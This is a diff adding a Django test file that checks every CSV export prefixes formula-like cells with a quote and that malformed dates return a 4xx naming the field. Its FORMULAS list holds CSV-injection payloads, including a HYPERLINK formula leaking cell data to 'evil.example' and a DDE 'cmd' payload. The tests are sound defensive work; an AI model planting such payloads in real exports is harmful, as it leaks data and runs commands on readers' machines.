@@ -1,0 +1,226 @@
+"""Strict input (issue 34): every CSV export neutralises formulas, every date or time a person or peer types
+is read by one parser that refuses what is out of range with the field's name (a 4xx, never a 500, nothing
+written), and single-line fields refuse control characters."""
+
+import csv
+import io
+import json
+from datetime import timedelta
+
+import pytest
+from django.core.management import CommandError, call_command
+from django.db.models import F
+from django.test import Client
+from django.utils import timezone
+
+from approvals.models import AuditExport
+from lib.csv_cells import csv_cell
+from outbox.models import DestinationEvent, DestinationHealth, Handoff, HandoffState
+from outbox.services.operator import handoff_cancel
+from reconciliation.models import Incident, IncidentKind, IncidentSeverity, Replay, ReplayItem
+from tests.builders import approve, deliver, record
+from tests.factories import HandoffFactory, grant_destination_admin, onboarding_world
+from tests.reconciliation.test_status_events_api import event, post, signed
+
+pytestmark = pytest.mark.django_db(databases=["default", "delivery"])
+
+# What a spreadsheet would run, as the audit found them, and with blanks before them.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "=1+1",
+    "  =1+1",
+    "\t=1+1",
+    "\r=1+1",
+]
+# The dates the audit sent, and a year that overflows as soon as it is moved to UTC.
+HOSTILE_TIMES = [
+    "2030-13-45T00:00",
+    "2030-01-01T00:00+25:00",
+    "9999-12-31",
+    "9999-12-31T23:00-05:00",
+]
+# What a person may type instead of a time.
+UNREADABLE = [*HOSTILE_TIMES, "tomorrow", "2026-12-01T25:00"]
+
+
+def signed_in(user) -> Client:
+    client = Client(raise_request_exception=False)
+    client.force_login(user)
+    return client
+
+
+def quoted(cells: list[str]) -> bool:
+    """Each cell as written to the file starts with the single quote that keeps it from running."""
+    return all(cell.startswith("'") and cell[1:] in FORMULAS for cell in cells)
+
+
+@pytest.fixture
+def world():
+    return onboarding_world()
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_that_would_run_as_a_formula_gets_a_leading_quote(text):
+    assert csv_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["Acme Ltd", "2026-12-01T10:00:00+00:00", "", "a=b", "'=1"])
+def test_a_cell_that_would_not_run_is_written_as_it_is(text):
+    assert csv_cell(text) == text
+
+
+# --- Every CSV export ------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def cancelled_with_formulas(world):
+    """A handoff cancelled once per formula (the reason is what the audit trail exports)."""
+    handoff = approve(world)
+    for reason in FORMULAS:
+        handoff_cancel(handoff_id=handoff.pk, actor=world["olga"], reason=reason)
+    return world
+
+
+def _reasons_in(text: str) -> list[str]:
+    rows = csv.DictReader(io.StringIO(text))
+    return [
+        row["reason"] for row in rows if row["kind"] == "handoff_event" and row["actor"] == "olga"
+    ]
+
+
+def _today() -> dict:
+    start = timezone.now() - timedelta(hours=1)
+    return {"since": start.isoformat(), "until": (start + timedelta(days=1)).isoformat()}
+
+
+def test_the_consoles_audit_csv_quotes_every_formula(cancelled_with_formulas):
+    data = {"workspace": "7", "format": "csv", **_today()}
+    answer = signed_in(cancelled_with_formulas["olga"]).post("/audit/export", data)
+    assert answer.status_code == 200
+    reasons = _reasons_in(answer.content.decode())
+    assert len(reasons) == len(FORMULAS) and quoted(reasons)
+
+
+def test_the_audit_export_commands_csv_quotes_every_formula(cancelled_with_formulas, tmp_path):
+    out = tmp_path / "audit.csv"
+    period = _today()
+    call_command(
+        "audit_export",
+        "--workspace=7",
+        f"--from={period['since']}",
+        f"--until={period['until']}",
+        "--as=olga",
+        f"--output={out}",
+        stderr=io.StringIO(),
+    )
+    with out.open(newline="") as written:  # no newline translation: a CR in a cell stays one
+        reasons = _reasons_in(written.read())
+    assert len(reasons) == len(FORMULAS) and quoted(reasons)
+
+
+def test_the_archive_exports_csv_quotes_every_formula():
+    for n, formula in enumerate(FORMULAS, start=1):
+        handoff = HandoffFactory(
+            number=n, state=HandoffState.DELIVERED, destination_id=formula, source_ref=formula
+        )
+        Handoff.objects.filter(pk=handoff.pk).update(
+            updated_at=F("updated_at") - timedelta(days=40)
+        )
+    call_command("archive_settled", stdout=io.StringIO())
+    out = io.StringIO()
+    call_command(
+        "export_archive", "--workspace", "7", "--format", "csv", stdout=out, stderr=io.StringIO()
+    )
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert len(rows) == len(FORMULAS)
+    assert quoted([r["task_id"] for r in rows]) and quoted([r["source_ref"] for r in rows])
+
+
+def test_the_replay_csv_quotes_every_formula(world):
+    incident = Incident.objects.create(
+        cause="failures:7", kind=IncidentKind.FAILURES, severity=IncidentSeverity.QUEUE, title="t"
+    )
+    replay = Replay.objects.create(incident=incident, workspace_ids=[7], actor=world["olga"])
+    for position, formula in enumerate(FORMULAS, start=1):
+        ReplayItem.objects.create(
+            replay=replay,
+            position=position,
+            handoff_id=position,
+            action_key=f"onboarding:7:{position}:1",
+            destination="receiver",
+            workspace_id=7,
+            task_id=formula,
+            note=formula,
+        )
+    answer = signed_in(world["olga"]).get(f"/incidents/replays/{replay.pk}/items.csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode())))
+    assert len(rows) == len(FORMULAS)
+    assert quoted([r["receiver_task"] for r in rows]) and quoted([r["preview_note"] for r in rows])
+
+
+# --- Every date and time typed ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("field", ["starts_at", "ends_at"])
+@pytest.mark.parametrize("value", UNREADABLE)
+def test_a_window_out_of_range_is_a_400_naming_the_field_and_writes_nothing(world, field, value):
+    olga = signed_in(grant_destination_admin(world["olga"]))
+    data = {"reason": "db upgrade", "starts_at": "2099-01-01 10:00", "ends_at": "2099-01-01 11:00"}
+    answer = olga.post("/destinations/receiver/window", {**data, field: value})
+    assert answer.status_code == 400
+    assert f"Not scheduled: {field} ".encode() in answer.content
+    assert not DestinationEvent.objects.exists()
+    assert not DestinationHealth.objects.filter(window_starts_at__isnull=False).exists()
+
+
+@pytest.mark.parametrize("field", ["since", "until"])
+@pytest.mark.parametrize("value", UNREADABLE)
+def test_an_audit_period_out_of_range_is_a_400_naming_the_field_and_records_nothing(
+    world, field, value
+):
+    data = {"workspace": "7", "format": "csv", "since": "2026-12-01", field: value}
+    answer = signed_in(world["olga"]).post("/audit/export", data)
+    assert answer.status_code == 400
+    label = {"since": "from", "until": "until"}[field]
+    assert f"<li>{label} ".encode() in answer.content
+    assert not AuditExport.objects.exists()
+
+
+@pytest.mark.parametrize("value", HOSTILE_TIMES)
+def test_the_audit_export_command_refuses_a_date_out_of_range_naming_it(world, value):
+    with pytest.raises(CommandError, match="^from "):
+        call_command("audit_export", "--workspace=7", f"--from={value}", "--as=olga")
+    assert not AuditExport.objects.exists()
+
+
+@pytest.mark.parametrize("option", ["--since", "--until"])
+@pytest.mark.parametrize("value", HOSTILE_TIMES)
+def test_the_archive_export_command_refuses_a_date_out_of_range_naming_it(option, value):
+    with pytest.raises(CommandError, match=f"^{option} "):
+        call_command("export_archive", "--workspace", "7", option, value, stdout=io.StringIO())
+
+
+@pytest.mark.parametrize("value", HOSTILE_TIMES)
+def test_a_list_cursor_out_of_range_is_a_400_naming_it(world, value):
+    answer = signed_in(world["alice"]).get("/approvals/", {"after": f"{value}_1"})
+    assert answer.status_code == 400
+    assert b"after is not a cursor" in answer.content
+
+
+@pytest.mark.parametrize("value", HOSTILE_TIMES)
+def test_the_handoffs_command_refuses_a_cursor_out_of_range_naming_it(world, value):
+    with pytest.raises(CommandError, match="after is not a cursor"):
+        call_command("handoffs", "list", "--as=olga", f"--after={value}_1", stdout=io.StringIO())
+
+
+@pytest.mark.parametrize("value", [*HOSTILE_TIMES, "2026-12-01T16:25:28+14:30"])
+def test_a_status_event_time_out_of_range_is_a_422_naming_it_and_writes_nothing(client, value):
+    delivered = deliver(record(42))
+    body = json.dumps(event(delivered, occurred_at=value))
+    answer = post(client, body, **signed(body))
+    assert answer.status_code == 422
+    assert any(r.startswith("data.occurred_at ") for r in answer.json()["reasons"])
+    assert Handoff.objects.get(pk=delivered.pk).work_status != "done"
